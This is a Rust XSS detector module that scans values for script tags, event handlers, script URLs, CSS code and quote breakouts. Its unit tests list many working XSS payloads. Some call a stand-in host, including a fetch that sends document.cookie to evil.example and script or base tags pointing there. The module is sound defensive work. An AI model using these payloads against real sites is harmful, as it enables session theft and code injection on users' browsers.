//! Cross-site scripting by reading a value the way a browser would: as HTML
//! (tags and their attributes), as an attribute value, and as a URL.
//!
//! Owns the HTML tag/attribute scanner and the decisions below; hands on a
//! [`Finding`] (why, and the byte range) to the engine, which turns it into
//! a `specula-xss-lex` hit. Entity and JavaScript escapes are undone by the
//! engine's decoding layers before this runs, on every layer.
//!
//! A value is XSS when, pasted into a page, it makes the browser run code:
//!
//! * a tag that runs code by itself: `<script`, `</script` (leaving a script
//!   block), `<base href`, an `srcdoc` or `<meta http-equiv=refresh>`;
//! * an event-handler attribute (`on*=`) in any tag, whatever the tag name
//!   (`<x onclick=...>`, `<svg/onload=...>`), with the separators browsers
//!   accept (whitespace, `/`, quotes);
//! * an attribute whose value is a `javascript:`, `vbscript:` or
//!   `data:text/html`-like URL, with the tabs and newlines browsers ignore
//!   inside a scheme; CSS `expression(`, `-moz-binding`, `behavior:` in a
//!   `style` attribute or `<style>` block;
//! * outside any tag: a quote that closes an attribute followed by an event
//!   handler (`" onmouseover=alert(1)`), a whole value that is such a URL
//!   with a call in it (`javascript:alert(1)`), and a quote that closes a JS
//!   string followed by a call to a well-known sink (`';alert(1)//`).
//!
//! * a tag written with the US-ASCII half-width brackets 0xBC and 0xBE,
//!   which old IE read as `<` and `>` on a page without a charset
//!   (`\xbcscript\xbe`). In UTF-8 text 0xBC is a continuation byte (`ü` is
//!   C3 BC), so only an 0xBC at the start or after an ASCII byte counts.
//!
//! Plain prose with `<` (`a < b and c > d`) is not a tag: a tag name starts
//! right after `<` with a letter. Work is linear in the input (each byte is
//! looked at a bounded number of times) and the input is capped per point
//! by the engine.

use std::ops::Range;

/// Bytes of a `<style>` block read for CSS that runs code.
const STYLE_WINDOW: usize = 1024;
/// Bytes after a JS sink name searched for its call parenthesis.
const CALL_WINDOW: usize = 64;
/// Bytes after a half-width tag name searched for its closing 0xBE or `>`.
const HALF_WIDTH_WINDOW: usize = 200;

/// Why a value was flagged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reason {
    ScriptTag,
    EventHandler,
    ScriptUrl,
    CssCode,
    DangerousTag,
    AttributeBreakout,
    JsBreakout,
    HalfWidthTag,
}

/// An XSS shape found in a value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub reason: Reason,
    /// The tag, attribute or breakout, as bytes of the input.
    pub range: Range<usize>,
}

fn lower_at(s: &[u8], i: usize) -> u8 {
    s.get(i).map_or(0, u8::to_ascii_lowercase)
}

fn starts_with_ci(s: &[u8], i: usize, pat: &[u8]) -> bool {
    s.get(i..i + pat.len())
        .is_some_and(|w| w.eq_ignore_ascii_case(pat))
}

/// Bytes browsers drop or treat as separators inside a URL scheme and
/// around attribute values.
fn is_html_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0c | 0x0b | 0)
}

/// Whether `v` (an attribute value or a whole parameter) is a URL that runs
/// code. Leading whitespace and control bytes, and tabs/newlines inside the
/// scheme, are ignored as browsers do (`java\tscript:`).
fn script_url(v: &[u8]) -> Option<usize> {
    let mut scheme = [0u8; 16];
    let mut n = 0;
    let mut i = 0;
    while let Some(&b) = v.get(i) {
        i += 1;
        if b <= 0x20 {
            continue;
        }
        if b == b':' {
            break;
        }
        if !b.is_ascii_alphanumeric() && b != b'+' && b != b'-' && b != b'.' {
            return None;
        }
        match scheme.get_mut(n) {
            Some(slot) => *slot = b.to_ascii_lowercase(),
            None => return None,
        }
        n += 1;
    }
    match scheme.get(..n)? {
        b"javascript" | b"vbscript" | b"livescript" => Some(i),
        b"data" => {
            // data:text/html, data:image/svg+xml, data:application/xhtml+xml...
            let rest = v.get(i..).unwrap_or_default();
            let rest = rest
                .iter()
                .position(|&b| !is_html_space(b))
                .and_then(|p| rest.get(p..))
                .unwrap_or_default();
            let ty_end = rest
                .iter()
                .position(|&b| b == b';' || b == b',')
                .unwrap_or(rest.len());
            let ty = rest.get(..ty_end).unwrap_or_default();
            let ty = ty.to_ascii_lowercase();
            (ty == b"text/html"
                || ty.ends_with(b"+xml")
                || ty == b"text/xml"
                || ty == b"application/xml"
                || ty.contains(&b'*')
                || ty == b"text/javascript"
                || ty == b"application/javascript")
                .then_some(i)
        }
        _ => None,
    }
}

/// CSS that runs code: IE `expression(`, `behavior:`, `-moz-binding:`,
/// `javascript:` inside `url(`.
fn css_code(v: &[u8]) -> bool {
    let l = v.to_ascii_lowercase();
    let has = |p: &[u8]| memchr::memmem::find(&l, p).is_some();
    let expr = memchr::memmem::find_iter(&l, b"expression").any(|p| {
        l.get(p + 10..)
            .unwrap_or_default()
            .iter()
            .find(|&&b| !is_html_space(b))
            == Some(&b'(')
    });
    expr || has(b"-moz-binding") || has(b"behavior:") || has(b"javascript:") || has(b"vbscript:")
}

/// Well-known functions whose call proves code ran or leaks data.
const SINKS: &[&[u8]] = &[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"function",
    b"settimeout",
    b"setinterval",
    b"fetch",
    b"import",
    b"document.",
    b"window.",
    b"top.",
    b"self.",
    b"parent.",
    b"location",
    b"atob",
    b"string.fromcharcode",
    b"constructor",
    b"print",
    b"open",
    b"xmlhttprequest",
];

/// Whether `s[i..]` starts (after whitespace) with a call-like use of a sink.
fn sink_at(s: &[u8], mut i: usize) -> bool {
    while s.get(i).is_some_and(|&b| is_html_space(b) || b == b'(') {
        i += 1;
    }
    SINKS.iter().any(|w| starts_with_ci(s, i, w))
}

/// Whether an event handler's value looks like code: a call, a template
/// literal, an assignment or a sink name.
fn handler_code(v: &[u8]) -> bool {
    v.iter().any(|&b| matches!(b, b'(' | b'`' | b'=')) || sink_at(v, 0)
}

fn is_attr_name_byte(b: u8) -> bool {
    !is_html_space(b) && !matches!(b, b'/' | b'>' | b'=' | b'<')
}

fn is_event_name(name: &[u8]) -> bool {
    name.len() > 4
        && starts_with_ci(name, 0, b"on")
        && name
            .get(2..)
            .is_some_and(|r| r.iter().all(u8::is_ascii_alphabetic))
}

/// Scan the tag starting at `s[lt] == '<'` whose name spans `name`.
/// Returns a finding or the index where scanning resumes.
fn scan_tag(s: &[u8], lt: usize, name: Range<usize>, closing: bool) -> Result<usize, Finding> {
    let tag = s.get(name.clone()).unwrap_or_default().to_ascii_lowercase();
    let mut i = name.end;
    let found = |reason, end: usize| Finding {
        reason,
        range: lt..end.min(s.len()),
    };
    if tag == b"script" {
        // `<script>` runs code; `</script>` leaves a script block, which only
        // an injection into one does.
        return Err(found(Reason::ScriptTag, i));
    }
    if closing {
        return Ok(i);
    }
    let mut refresh = false;
    loop {
        // Separators between attributes: whitespace, `/`, and stray quotes.
        while s
            .get(i)
            .is_some_and(|&b| is_html_space(b) || matches!(b, b'/' | b'"' | b'\''))
        {
            i += 1;
        }
        match s.get(i) {
            None => return Ok(i),
            Some(b'>') => {
                i += 1;
                break;
            }
            // A new tag starts before this one closed: scan that one.
            Some(b'<') => return Ok(i),
            _ => {}
        }
        let name_start = i;
        while s.get(i).is_some_and(|&b| is_attr_name_byte(b)) {
            i += 1;
        }
        if i == name_start {
            // A lone `=`: skip it.
            i += 1;
            continue;
        }
        let attr = s
            .get(name_start..i)
            .unwrap_or_default()
            .to_ascii_lowercase();
        let mut j = i;
        while s.get(j).is_some_and(|&b| is_html_space(b)) {
            j += 1;
        }
        let mut value = 0..0;
        if s.get(j) == Some(&b'=') {
            j += 1;
            while s.get(j).is_some_and(|&b| is_html_space(b)) {
                j += 1;
            }
            match s.get(j) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let end = memchr::memchr(q, s.get(j + 1..).unwrap_or_default())
                        .map_or(s.len(), |p| j + 1 + p);
                    value = j + 1..end;
                    i = (end + 1).min(s.len());
                }
                _ => {
                    let mut e = j;
                    while s.get(e).is_some_and(|&b| !is_html_space(b) && b != b'>') {
                        e += 1;
                    }
                    value = j..e;
                    i = e;
                }
            }
            let v = s.get(value.clone()).unwrap_or_default();
            if is_event_name(&attr) {
                return Err(found(Reason::EventHandler, i));
            }
            if script_url(v).is_some() {
                return Err(found(Reason::ScriptUrl, i));
            }
            if attr == b"style" && css_code(v) {
                return Err(found(Reason::CssCode, i));
            }
            if attr == b"srcdoc" || (tag == b"base" && attr == b"href") {
                return Err(found(Reason::DangerousTag, i));
            }
            if tag == b"meta" && attr == b"http-equiv" && v.eq_ignore_ascii_case(b"refresh") {
                refresh = true;
            }
            if refresh && attr == b"content" {
                let url = memchr::memmem::find(&v.to_ascii_lowercase(), b"url=")
                    .and_then(|p| v.get(p + 4..));
                if url.is_some_and(|u| script_url(u).is_some()) {
                    return Err(found(Reason::ScriptUrl, i));
                }
            }
        } else {
            i = j.max(i);
        }
    }
    if tag == b"style" {
        // A style block: its text up to `</style` is CSS. Only the next
        // STYLE_WINDOW bytes are read, so that many `<style>` tags cost
        // linear work, not quadratic.
        let body = s.get(i..).unwrap_or_default();
        let body = body.get(..body.len().min(STYLE_WINDOW)).unwrap_or(body);
        let end =
            memchr::memmem::find(&body.to_ascii_lowercase(), b"</style").unwrap_or(body.len());
        if css_code(body.get(..end).unwrap_or_default()) || starts_with_ci(body, 0, b"@import") {
            return Err(found(Reason::CssCode, i + end));
        }
    }
    Ok(i)
}

/// The bytes of which every shape other than a half-width tag needs one:
/// a tag, an `=` (handler), a `:` (URL, CSS) or a quote. [`check`] returns
/// early without them and [`inert_over`] vouches for classes without them.
const SHAPE_BYTES: [u8; 6] = [b'<', b'=', b':', b'\'', b'"', b'`'];

/// Whether [`check`] can never flag a value made only of bytes for which
/// `class` holds (see [`super::inert`]): none of [`SHAPE_BYTES`], and no
/// non-ASCII byte (half-width tags).
pub fn inert_over(class: impl Fn(u8) -> bool) -> bool {
    (0..=255u8).all(|b| !class(b) || (b.is_ascii() && !SHAPE_BYTES.contains(&b)))
}

/// Look for an XSS shape in `s`.
pub fn check(s: &[u8]) -> Option<Finding> {
    if let Some(f) = half_width_tag(s) {
        return Some(f);
    }
    // Most values have none of the shape bytes and cost two memchr passes.
    let [lt, eq, colon, squote, dquote, backtick] = SHAPE_BYTES;
    if memchr::memchr3(lt, eq, colon, s).is_none()
        && memchr::memchr3(squote, dquote, backtick, s).is_none()
    {
        return None;
    }
    // A whole value that is a code URL with a call in it (an `href` or
    // redirect parameter).
    if let Some(p) = script_url(s) {
        let rest = s.get(p..).unwrap_or_default();
        if rest
            .iter()
            .any(|&b| matches!(b, b'(' | b'`' | b'=' | b'<' | b','))
            || rest.is_empty()
        {
            return Some(Finding {
                reason: Reason::ScriptUrl,
                range: 0..s.len(),
            });
        }
    }
    if let Some(f) = bare_css(s) {
        return Some(f);
    }
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        match b {
            // An unquoted attribute value broken out of with a space:
            // `x onload=...`. Only the common events, or any with code.
            b' ' | b'\t' | b'\n' | b'\r' | b'/' | 0x0c => {
                if let Some(f) = unquoted_handler(s, i) {
                    return Some(f);
                }
                i += 1;
            }
            b'<' => {
                let closing = s.get(i + 1) == Some(&b'/');
                let name_start = i + 1 + usize::from(closing);
                if !lower_at(s, name_start).is_ascii_alphabetic() {
                    i += 1;
                    continue;
                }
                let mut e = name_start;
                while s
                    .get(e)
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b':' | b'_'))
                {
                    e += 1;
                }
                // A tag name ends at whitespace, `/`, `>` or the end; `a<b+c`
                // is not a tag.
                if !s
                    .get(e)
                    .map_or(true, |&c| is_html_space(c) || matches!(c, b'/' | b'>'))
                {
                    i = e;
                    continue;
                }
                match scan_tag(s, i, name_start..e, closing) {
                    Err(f) => return Some(f),
                    Ok(next) => i = next.max(i + 1),
                }
            }
            b'"' | b'\'' | b'`' => {
                if let Some(f) = breakout(s, i) {
                    return Some(f);
                }
                i += 1;
            }
            _ => i += 1,
        }
    }
    None
}

/// A tag between the US-ASCII half-width brackets: 0xBC (at the start or
/// after an ASCII byte, so not inside a UTF-8 character), an optional `/`,
/// a tag name, then 0xBE or `>` within [`HALF_WIDTH_WINDOW`] bytes with no
/// other bracket between.
fn half_width_tag(s: &[u8]) -> Option<Finding> {
    let mut from = 0;
    while let Some(off) = memchr::memchr(0xbc, s.get(from..)?) {
        let lt = from + off;
        from = lt + 1;
        if lt > 0 && s.get(lt - 1).is_some_and(|b| !b.is_ascii()) {
            continue;
        }
        let name_start = lt + 1 + usize::from(s.get(lt + 1) == Some(&b'/'));
        let mut e = name_start;
        while s.get(e).is_some_and(u8::is_ascii_alphabetic) {
            e += 1;
        }
        if e == name_start {
            continue;
        }
        let end = s.len().min(e + HALF_WIDTH_WINDOW);
        let window = s.get(e..end).unwrap_or_default();
        if let Some(gt) = window
            .iter()
            .position(|&b| matches!(b, 0xbc | 0xbe | b'<' | b'>'))
        {
            if matches!(window.get(gt), Some(0xbe | b'>')) {
                return Some(Finding {
                    reason: Reason::HalfWidthTag,
                    range: lt..e + gt + 1,
                });
            }
        }
    }
    None
}

/// Events that fire without user action or on the most common ones.
const COMMON_EVENTS: &[&[u8]] = &[
    b"onload",
    b"onerror",
    b"onclick",
    b"onmouseover",
    b"onfocus",
    b"onblur",
    b"onanimationstart",
    b"ontoggle",
    b"onbegin",
    b"onpageshow",
    b"onmouseenter",
];

/// After a separator at `sep`: `on*=` (the separator ended an unquoted
/// attribute value).
fn unquoted_handler(s: &[u8], sep: usize) -> Option<Finding> {
    let start = sep + 1;
    let mut i = start;
    while s.get(i).is_some_and(u8::is_ascii_alphabetic) {
        i += 1;
    }
    let name = s.get(start..i)?;
    if !is_event_name(name) {
        return None;
    }
    let mut j = i;
    while s.get(j).is_some_and(|&b| is_html_space(b)) {
        j += 1;
    }
    if s.get(j) != Some(&b'=') {
        return None;
    }
    let v = s.get(j + 1..).unwrap_or_default();
    let v = v.get(..v.len().min(64)).unwrap_or_default();
    let common = COMMON_EVENTS.iter().any(|e| name.eq_ignore_ascii_case(e));
    (common || handler_code(v)).then(|| Finding {
        reason: Reason::AttributeBreakout,
        range: start..(j + 1 + v.len()).min(s.len()),
    })
}

/// A value pasted into a `style` attribute or CSS: `x:expression(`,
/// `url(javascript:`.
fn bare_css(s: &[u8]) -> Option<Finding> {
    // Both shapes call something.
    memchr::memchr(b'(', s)?;
    let l = s.to_ascii_lowercase();
    for p in memchr::memmem::find_iter(&l, b"url(") {
        let rest = l.get(p + 4..).unwrap_or_default();
        let k = rest
            .iter()
            .position(|&b| !is_html_space(b) && b != b'"' && b != b'\'')
            .unwrap_or(rest.len());
        let r = rest.get(k..).unwrap_or_default();
        if r.starts_with(b"javascript") || r.starts_with(b"vbscript") {
            return Some(Finding {
                reason: Reason::CssCode,
                range: p..(p + 4 + k + 10).min(s.len()),
            });
        }
    }
    for p in memchr::memmem::find_iter(&l, b"expression") {
        let before = l.get(..p).unwrap_or_default();
        let colon = before
            .iter()
            .rev()
            .find(|&&b| !is_html_space(b))
            .is_some_and(|&b| b == b':');
        let after = l.get(p + 10..).unwrap_or_default();
        let paren = after.iter().find(|&&b| !is_html_space(b)) == Some(&b'(');
        if colon && paren {
            return Some(Finding {
                reason: Reason::CssCode,
                range: p..(p + 11).min(s.len()),
            });
        }
    }
    None
}

/// After a quote at `q`: an attribute breakout (`" onclick=alert(1)`) or a
/// JS string breakout (`';alert(1)//`, `"-alert(1)-"`).
fn breakout(s: &[u8], q: usize) -> Option<Finding> {
    let mut i = q + 1;
    // Attribute: separators, then `on*=` with code in the value.
    while s
        .get(i)
        .is_some_and(|&b| is_html_space(b) || matches!(b, b'/'))
    {
        i += 1;
    }
    let name_start = i;
    while s.get(i).is_some_and(u8::is_ascii_alphabetic) {
        i += 1;
    }
    let name = s.get(name_start..i).unwrap_or_default();
    if is_event_name(name) {
        let mut j = i;
        while s.get(j).is_some_and(|&b| is_html_space(b)) {
            j += 1;
        }
        if s.get(j) == Some(&b'=') {
            let v = s.get(j + 1..).unwrap_or_default();
            let v = v.get(..v.len().min(64)).unwrap_or_default();
            if handler_code(v) {
                return Some(Finding {
                    reason: Reason::AttributeBreakout,
                    range: q..(j + 1 + v.len()).min(s.len()),
                });
            }
        }
    }
    // JS string: the quote, then an operator or `;`, then a sink.
    let mut j = q + 1;
    while s.get(j).is_some_and(|&b| is_html_space(b) || b == b')') {
        j += 1;
    }
    if s.get(j)
        .is_some_and(|&b| matches!(b, b';' | b'-' | b'+' | b'*' | b'/' | b'|' | b'&' | b','))
    {
        let mut k = j + 1;
        while s
            .get(k)
            .is_some_and(|&b| is_html_space(b) || matches!(b, b'|' | b'&' | b'+' | b'-'))
        {
            k += 1;
        }
        if sink_at(s, k) {
            let window = s.get(k..).unwrap_or_default();
            let window = window
                .get(..window.len().min(CALL_WINDOW))
                .unwrap_or(window);
            let paren = memchr::memchr(b'(', window);
            let end = paren.map_or(k + window.len(), |p| k + p + 1);
            // The sink must be called (or accessed, `document.cookie`).
            let called = paren.is_some() || window.contains(&b'.');
            if called {
                return Some(Finding {
                    reason: Reason::JsBreakout,
                    range: q..end.min(s.len()).min(q + 256),
                });
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reason(s: &str) -> Option<Reason> {
        check(s.as_bytes()).map(|f| f.reason)
    }

    #[test]
    fn tags_that_run_code() {
        use Reason::*;
        for (s, r) in [
            ("<script>alert(1)</script>", ScriptTag),
            ("<ScRiPt src=//evil.example/x.js>", ScriptTag),
            ("<script/xss src=x>", ScriptTag),
            ("x</script><svg onload=alert(1)>", ScriptTag),
            ("<img src=x onerror=alert(1)>", EventHandler),
            ("<svg/onload=alert(1)>", EventHandler),
            ("<body onload=alert(1)>", EventHandler),
            ("<x onclick='a()'>click", EventHandler),
            ("<img src=\"x\"onerror=\"alert(1)\">", EventHandler),
            ("<details open ontoggle=alert(1)>", EventHandler),
            ("<a href=\"javascript:alert(1)\">x</a>", ScriptUrl),
            ("<a href=' java\tscript:alert(1)'>", ScriptUrl),
            (
                "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
                ScriptUrl,
            ),
            ("<object data=data:image/svg+xml,<svg>>", ScriptUrl),
            ("<form action=vbscript:msgbox(1)>", ScriptUrl),
            ("<div style=\"width: expression(alert(1))\">", CssCode),
            (
                "<style>body{background:url(javascript:alert(1))}</style>",
                CssCode,
            ),
            (
                "<style>@import 'http://evil.example/x.css';</style>",
                CssCode,
            ),
            ("<base href=//evil.example/>", DangerousTag),
            ("<iframe srcdoc=\"&lt;script&gt;\">", DangerousTag),
            (
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                ScriptUrl,
            ),
            // Not closed yet: the browser waits for a later `>`.
            ("<img src=x onerror=alert(1)", EventHandler),
        ] {
            assert_eq!(reason(s), Some(r), "{s:?}");
        }
    }

    #[test]
    fn breakouts() {
        use Reason::*;
        for (s, r) in [
            ("\" onmouseover=\"alert(1)", AttributeBreakout),
            ("'onfocus=alert(1) autofocus '", AttributeBreakout),
            ("x\"/onclick=alert`1`", AttributeBreakout),
            ("';alert(1)//", JsBreakout),
            ("\"-alert(1)-\"", JsBreakout),
            ("'+document.cookie+'", JsBreakout),
            ("x');fetch('//evil.example/'+document.cookie)//", JsBreakout),
            ("\"><img src=x onerror=alert(1)>", EventHandler),
            ("'><script>alert(1)</script>", ScriptTag),
            ("javascript:alert(1)", ScriptUrl),
            ("  JaVaScRiPt:alert(document.domain)", ScriptUrl),
            ("data:text/html,<script>alert(1)</script>", ScriptUrl),
            ("x onload=go", AttributeBreakout),
            ("  onmouseover= x", AttributeBreakout),
            ("x/onanything=alert(1)", AttributeBreakout),
            ("color:expression(alert(1))", CssCode),
            ("x:url( 'javascript:alert(1)')", CssCode),
        ] {
            assert_eq!(reason(s), Some(r), "{s:?}");
        }
    }

    #[test]
    fn benign_near_misses() {
        for s in [
            "a < b and c > d",
            "if x<y then y>x",
            "1 <2 and 3> 4",
            "<b>bold</b> and <i>italic</i>",
            "<p>Hello <a href=\"https://example.com/\">world</a></p>",
            "<img src=\"/logo.png\" alt=\"logo\">",
            "javascript: the good parts",
            "JavaScript: The Definitive Guide",
            "regular expression (regex) help",
            "the expression(s) we used",
            "O'Brien said \"online only\"",
            "it's 'alert' level",
            "don't; print the page",
            "online=true",
            "status: online = yes",
            "turn the oven on = 180 degrees",
            "url(/img/a.png)",
            "{\"note\": \"x < 5 && y > 2\"}",
            "mailto:someone@example.com",
            "data:image/png;base64,iVBORw0KGgo=",
            "https://example.com/?a=1&b=2",
            "<div class=\"once\">",
            "a<b+c",
        ] {
            assert_eq!(reason(s), None, "{s:?}");
        }
    }

    #[test]
    fn range_is_the_tag() {
        let s = b"hello <img src=x onerror=alert(1)> world";
        let f = check(s).unwrap();
        assert_eq!(s.get(f.range).unwrap(), b"<img src=x onerror=alert(1)");
    }

    #[test]
    fn repeated_openers_stay_linear() {
        // Would be quadratic if each opener scanned the rest of the value.
        let many_styles = "<style>".repeat(4000);
        assert_eq!(reason(&many_styles), None);
        let many_sinks = "';alert ".repeat(4000);
        assert_eq!(reason(&many_sinks), None);
    }

    #[test]
    fn half_width_brackets() {
        let tag = |s: &[u8]| check(s).map(|f| f.reason);
        assert_eq!(
            tag(b"test\xbctest\xbetest(\xa2XSS\xa2)\xbc/test\xbe"),
            Some(Reason::HalfWidthTag)
        );
        assert_eq!(tag(b"\xbcscript\xbealert(1)"), Some(Reason::HalfWidthTag));
        // UTF-8 text: 0xBC and 0xBE are continuation bytes of `\u{fc}`/`\u{fe}`.
        assert_eq!(tag("Gr\u{fc}ße an \u{fe}".as_bytes()), None);
        assert_eq!(tag("\u{fc}ber \u{fe}".as_bytes()), None);
        // No name, or no closing bracket.
        assert_eq!(tag(b"\xbc \xbe"), None);
        assert_eq!(tag(b"\xbcscript"), None);
        assert_eq!(tag(b"\xbc"), None);
    }

    #[test]
    fn truncated_inputs_do_not_panic() {
        for s in [
            &b"<"[..],
            b"</",
            b"<a",
            b"<a ",
            b"<a b",
            b"<a b=",
            b"<a b='",
            b"<a b=\"x",
            b"'",
            b"';",
            b"\"on",
            b"\"onclick",
            b"\"onclick=",
            b"javascript",
            b"javascript:",
            b"data:",
            b"<style>",
            b"<meta http-equiv=refresh content=",
            b"\xff<\xfe",
            b"\xbc",
            b"\xbc/",
            b"a\xbcb",
        ] {
            let _ = check(s);
        }
    }
}
